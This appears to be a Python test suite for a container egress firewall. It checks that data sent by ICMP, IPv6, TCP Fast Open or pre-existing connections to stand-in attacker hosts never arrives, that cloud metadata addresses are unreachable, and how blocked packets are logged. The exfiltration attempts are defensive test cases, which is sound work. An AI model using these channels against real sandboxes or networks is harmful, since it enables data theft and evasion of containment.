"""test_network.py - below the names: what leaves the box, and what is refused and told there."""
import contextlib
import errno
import socket
import struct
import threading

import pytest

from internet import ATTACKER, ATTACKER6, GATEWAY, GATEWAY6, ORIGIN
from world import BOX, BOX6

ATTACKERS = pytest.mark.parametrize("attacker", [ATTACKER, ATTACKER6], ids=["v4", "v6"])
NEIGHBOURS = "nd-router-solicit, nd-neighbor-solicit, nd-neighbor-advert"
REFUSED_SEND = errno.EPERM, errno.EHOSTUNREACH, errno.EACCES, errno.ENETUNREACH
FASTOPEN_ALWAYS = 0x5               # data in the first SYN without a cookie

# As Docker's: it turns connection tracking on before we come.
DOCKER = """table ip nat {
    chain output {
        type nat hook output priority -100;
        ip daddr 127.0.0.11 udp dport 53 dnat to 127.0.0.11:45678
    }
    chain postrouting {
        type nat hook postrouting priority srcnat;
        ip saddr 127.0.0.11 udp sport 45678 snat to :53
    }
}
table ip6 nat {
    chain output {
        type nat hook output priority -100;
        ip6 daddr ::1 udp dport 53 dnat to [::1]:45678
    }
}
"""


def send(sock, data, to=None):
    """True when the kernel said yes; it does so for a ping over IPv6 whatever becomes of it."""
    try:
        if to is None:
            sock.send(data)
        else:
            sock.sendto(data, to)
        return True
    except OSError as error:
        assert error.errno in REFUSED_SEND, error
        return False


def icmp(kind, payload):
    """An ICMP message; the kernel fills in ICMPv6's checksum, the receiver need not like ours."""
    return struct.pack("!BBHHH", kind, 0, 0, 7, 1) + payload


@contextlib.contextmanager
def serving(net, addr, port, answer=b"answer", kind=socket.SOCK_STREAM):
    """A service of the workload's: it answers each question."""
    with net.client.open(socket.AF_INET6 if ":" in addr else socket.AF_INET, kind) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((addr, port))
        sock.settimeout(None)
        if kind == socket.SOCK_STREAM:
            sock.listen()
        thread = threading.Thread(target=serve, args=(sock, answer, kind), daemon=True)
        thread.start()
        try:
            yield
        finally:
            with contextlib.suppress(OSError):      # ENOTCONN, and yet accept() ends
                sock.shutdown(socket.SHUT_RDWR)
            thread.join(10)


def serve(sock, answer, kind):
    with contextlib.suppress(OSError):
        while True:
            if kind == socket.SOCK_DGRAM:
                question, peer = sock.recvfrom(65536)
                if not question and not peer:
                    return
                sock.sendto(answer, peer)
                continue
            with sock.accept()[0] as connection:
                connection.recv(65536)
                connection.sendall(answer)


# What does not leave

def test_of_ipv6_nothing_leaves_but_neighbour_discovery(net):
    net.internet.rules(f"iifname eth0 icmpv6 type {{ {NEIGHBOURS} }} accept",
                       "iifname eth0 meta nfproto ipv6 counter")
    net.start(domains=["*"])
    with net.box.entered():
        eth0 = socket.if_nametoindex("eth0")
    kinds = [(socket.SOCK_STREAM, 0), (socket.SOCK_DGRAM, 0), (socket.SOCK_DGRAM, 58),
             (socket.SOCK_RAW, 58), (socket.SOCK_RAW, 41), (socket.SOCK_RAW, 253)]
    for addr in ATTACKER6, GATEWAY6, "fe80::1", "ff02::1", "ff05::2", "fd77::99", "fe80::1:99":
        for kind, protocol in kinds:
            for port in (1, 53, 443, 547, 5353, 65535) if protocol == 0 else (0,):
                if (kind, port) == (socket.SOCK_STREAM, 443):
                    continue            # redirected: accepted, and judged by name
                with net.client.open(socket.AF_INET6, kind, protocol) as sock:
                    with contextlib.suppress(OSError):
                        sock.connect((addr, port, 0, eth0))
                        sock.send(icmp(128, b"payload"))
    told = net.internet.namespace.nft_json("list", "table", "inet", "extra")
    packets = [part["counter"]["packets"] for row in told for part in row.get("rule", {}).get(
        "expr", []) if "counter" in part]
    assert packets == [0]
    assert net.client.tls("evil.test", to=ATTACKER6) == "OK"    # discovery works: there is a way


def test_ipv4_in_an_ipv6_socket_is_judged_as_ipv4(net):
    net.start(domains=["allowed.test"])
    mapped = f"::ffff:{ATTACKER}"
    assert net.client.tcp(mapped, 22) == "REFUSED"
    assert net.client.udp(mapped, 443) in ("UNREACHABLE", "DENIED")
    assert net.client.tls("evil.test", to=mapped) == "RESET"
    assert net.internet.arrived() == 0
    assert net.client.tls("allowed.test", to=f"::ffff:{ORIGIN}") == "OK"


@ATTACKERS
def test_no_icmp_leaves(net, attacker):
    net.start(domains=["*"])
    v6 = ":" in attacker
    family, protocol = ((socket.AF_INET6, socket.IPPROTO_ICMPV6) if v6 else
                        (socket.AF_INET, socket.IPPROTO_ICMP))
    kinds = (128, 129, 1, 137, 144) if v6 else (8, 0, 3, 5, 13, 17)     # echo, errors, redirect...
    with net.client.open(family, socket.SOCK_DGRAM, protocol) as sock:
        send(sock, icmp(kinds[0], b"secret" * 100), (attacker, 0))
    with net.client.open(family, socket.SOCK_RAW, protocol) as sock:
        for kind in kinds:
            assert not send(sock, icmp(kind, b"secret"), (attacker, 0)), kind
    assert net.internet.arrived() == 0


@ATTACKERS
@pytest.mark.parametrize("port", [22, 80, 443])
def test_data_in_the_first_packet_does_not_leave(net, attacker, port):
    net.start(domains=["allowed.test"])
    net.box.sysctl(ipv4__tcp_fastopen=FASTOPEN_ALWAYS)
    try:
        with net.client.open(socket.AF_INET6 if ":" in attacker else socket.AF_INET) as sock:
            with pytest.raises(OSError) as raised:
                sock.sendto(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", socket.MSG_FASTOPEN,
                            (attacker, port))
                sock.recv(100)
            assert raised.value.errno in (errno.ECONNREFUSED, errno.ECONNRESET)
    finally:
        net.box.sysctl(ipv4__tcp_fastopen=1)
    assert net.internet.arrived() == 0


def test_the_gateway_and_the_neighbours_are_no_exception(net):
    net.start(domains=["*"])
    for addr in GATEWAY, GATEWAY6, "10.77.0.3", "fd77::3", "172.17.0.1":
        for port in 22, 2375, 8080:
            assert net.client.tcp(addr, port) == "REFUSED"
        assert net.client.udp(addr, 161) in ("UNREACHABLE", "DENIED")
    assert net.client.tls("", to=GATEWAY) == "RESET"
    assert [key for key in net.internet.arrivals() if key[1] in ("tcp", "udp")] == []


@pytest.mark.parametrize("addr", ["169.254.169.254", "100.100.100.200", "168.63.129.16",
                                  "fd00:ec2::254"])
def test_metadata_services_are_not_reached(net, addr):
    net.start(domains=["allowed.test"])
    literal = f"[{addr}]" if ":" in addr else addr
    assert net.client.http(literal, to=addr) == "RESET"
    assert net.client.http("allowed.test", to=addr).body.startswith(b"hello from allowed.test at ")
    assert net.client.tcp(addr, 8080) == "REFUSED"
    assert net.internet.arrived(addr) == 0


# Older than the filter

@ATTACKERS
@pytest.mark.parametrize("port", [80, 9999])
@pytest.mark.parametrize("before", ["", DOCKER], ids=["plain", "tracked"])
@pytest.mark.parametrize("first", ["client", "server"])
def test_a_connection_older_than_the_filter_is_cut(net, attacker, port, before, first):
    net.box.forget_flows()              # an ended one from the same port would make it "invalid"
    net.box.nft(before)
    with net.client.connect(attacker, port) as old:
        old.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        assert old.recv(65536)
        net.start(domains=["*"])
        arrived = net.internet.arrived(attacker)
        if first == "server":           # its words are answered by the kernel: an ACK
            session = net.internet.at(attacker)[0]
            net.internet.loop.call_soon_threadsafe(session.transport.write, b"come out")
        with pytest.raises((ConnectionResetError, BrokenPipeError)):
            if first == "server":
                assert old.recv(100) == b"come out"
            for _ in range(3):
                old.sendall(b"secret")
                old.recv(100)
        assert net.internet.arrived(attacker) == arrived
        assert b"secret" not in net.internet.received(attacker)


@ATTACKERS
@pytest.mark.parametrize("before", ["", DOCKER], ids=["plain", "tracked"])
def test_a_datagram_flow_older_than_the_filter_is_cut(net, attacker, before):
    net.box.nft(before)
    with net.client.connect(attacker, 9999, socket.SOCK_DGRAM) as old:
        old.send(b"before")
        assert old.recv(100) == b"before"
        net.start(domains=["*"])
        arrived = net.internet.arrived(attacker)
        assert not send(old, b"secret")
        assert net.internet.arrived(attacker) == arrived


# From outside

@pytest.mark.parametrize("ports, published", [("any", True), ("none", False), ("7000", True),
                                              ("80,7000-7010", True), ("7001-7010,443", False)])
@pytest.mark.parametrize("addr, gateway", [(BOX, GATEWAY), (BOX6, GATEWAY6)], ids=["v4", "v6"])
def test_answers_to_others_leave_from_published_ports_only(net, ports, published, addr, gateway):
    net.start(domains=["*"], env={"INBOUND_PORTS": ports})
    with serving(net, addr, 7000), serving(net, addr, 7000, kind=socket.SOCK_DGRAM):
        if published:
            assert net.outsider.tcp(addr, 7000).body == b"answer"
            assert net.outsider.udp(addr, 7000).body == b"answer"
            closed = net.outsider.tcp(addr, 7777, timeout=0.2)
            assert closed == ("REFUSED" if ports == "any" else "TIMEOUT")
            return
        assert net.outsider.tcp(addr, 7000, timeout=0.2) == "TIMEOUT"
        assert net.outsider.udp(addr, 7000, timeout=0.2) == "TIMEOUT"
    for protocol in "TCP", "UDP":
        net.ringfence.wait_event("nflog.event", source_ip=addr, source_port=7000,
                                 destination_ip=gateway, protocol=protocol)
    assert net.internet.arrived(gateway, protocol="tcp") == 0
    assert net.internet.arrived(gateway, protocol="udp") == 0


def test_who_was_called_from_outside_cannot_call_back(net):
    net.start(domains=["*"])
    with serving(net, BOX, 7000):
        assert net.outsider.tcp(BOX, 7000) == "OK"
        assert net.client.tcp(GATEWAY, 7000) == "REFUSED"
    with net.client.open() as sock:             # not from the published port either
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((BOX, 7000))
        with pytest.raises(ConnectionRefusedError):
            sock.connect((GATEWAY, 7001))
    assert net.internet.arrived(GATEWAY, port=7000) == net.internet.arrived(GATEWAY, port=7001) == 0


@pytest.mark.parametrize("addr", [BOX, BOX6])
def test_others_cannot_use_our_listeners(net, addr):
    net.start(domains=["*"])
    for port in 8080, 8443:
        assert net.outsider.tcp(addr, port) == "REFUSED"
    net.ringfence.signal(10)                    # SIGUSR1
    assert net.ringfence.wait_event("metrics")["conns_opened"] == 0


# The workload's own

@pytest.mark.parametrize("addr", ["127.0.0.1", "::1", BOX, BOX6])
def test_the_workloads_own_services_are_left_alone(net, addr):
    net.start(domains=["allowed.test"])
    for port in 80, 443, 5432:
        with serving(net, addr, port, b"mine"):
            assert net.client.tcp(addr, port).body == b"mine"
    with serving(net, addr, 514, b"mine", socket.SOCK_DGRAM):
        assert net.client.udp(addr, 514).body == b"mine"
    assert net.ringfence.events("https.blocked") + net.ringfence.events("http.blocked") == []


@pytest.mark.parametrize("addr", ["127.0.0.1", "127.0.0.11", "::1", BOX, BOX6])
def test_its_own_resolver_is_left_alone_when_asked_to(net, addr):
    net.start(domains=["allowed.test"], env={"HTTPS_MODE_DNS": "pass"})
    with serving(net, addr, 53, b"mine", socket.SOCK_DGRAM):
        assert net.client.udp(addr, 53).body == b"mine"


# What is told

@ATTACKERS
def test_blocked_packets_are_told_with_g0efilters_fields(net, attacker):
    net.start(domains=["*"], env={"HOSTNAME": "box-1", "TENANT_ID": "tenant-9"})
    v6 = ":" in attacker
    source, header = (BOX6, 40) if v6 else (BOX, 20)
    family, ping, echo = ((socket.AF_INET6, socket.IPPROTO_ICMPV6, 128) if v6 else
                          (socket.AF_INET, socket.IPPROTO_ICMP, 8))
    net.client.tcp(attacker, 8888)
    net.client.udp(attacker, 8888, data=b"x" * 16)
    with net.client.open(family, socket.SOCK_DGRAM, ping) as sock:
        send(sock, icmp(echo, b"x" * 8), (attacker, 0))
    for protocol, size in ("TCP", 40), ("UDP", 24), (str(ping), 16):
        told = net.ringfence.wait_event("nflog.event", protocol=protocol)
        assert {"level": "warn", "action": "BLOCKED", "component": "nflog", "hostname": "box-1",
                "tenant_id": "tenant-9", "source_ip": source, "destination_ip": attacker,
                "to_allow": f"ips: {attacker}",
                "payload_len": header + size}.items() <= told.items()
        assert int(told["flow_id"], 16) > 0
        if protocol == str(ping):
            assert told["src"] == source and told["dst"] == attacker and "source_port" not in told
        else:
            assert told["dst"] == f"{attacker}:8888" and told["destination_port"] == 8888
            assert told["src"] == f"{source}:{told['source_port']}"


def told_of(net, port):
    """What was told of packets to that port, all of it: blocked packets are told at a limited rate,
    so another is sent until it is told, which is after all before it."""
    for _ in range(300):
        net.client.udp(ATTACKER, 7)
        with contextlib.suppress(AssertionError):
            net.ringfence.wait_event("nflog.event", timeout=0.1, destination_port=7)
            break
    return net.ringfence.events("nflog.event", destination_port=port)


def test_a_flood_of_one_kind_becomes_few_events_with_counts(net):
    net.start(domains=["*"])
    with net.client.connect(ATTACKER, 9999, socket.SOCK_DGRAM) as sock:
        for _ in range(5000):
            send(sock, b"flood")
    told = told_of(net, 9999)
    assert 1 <= len(told) <= 20                 # one a second
    assert 400 <= sum(event.get("count", 1) for event in told) <= 5000
    assert net.internet.arrived() == 0


def test_a_flood_to_many_places_is_bounded_too(net):
    net.start(domains=["*"])
    with net.client.open(kind=socket.SOCK_DGRAM) as sock:
        for n in range(5000):
            send(sock, b"flood", (f"198.18.{n // 250}.{n % 250}", 9999))
    told = told_of(net, 9999)
    assert 100 <= sum(event.get("count", 1) for event in told) <= 2500
    assert net.internet.arrived() == 0
    assert net.client.tls("evil.test") == "OK"
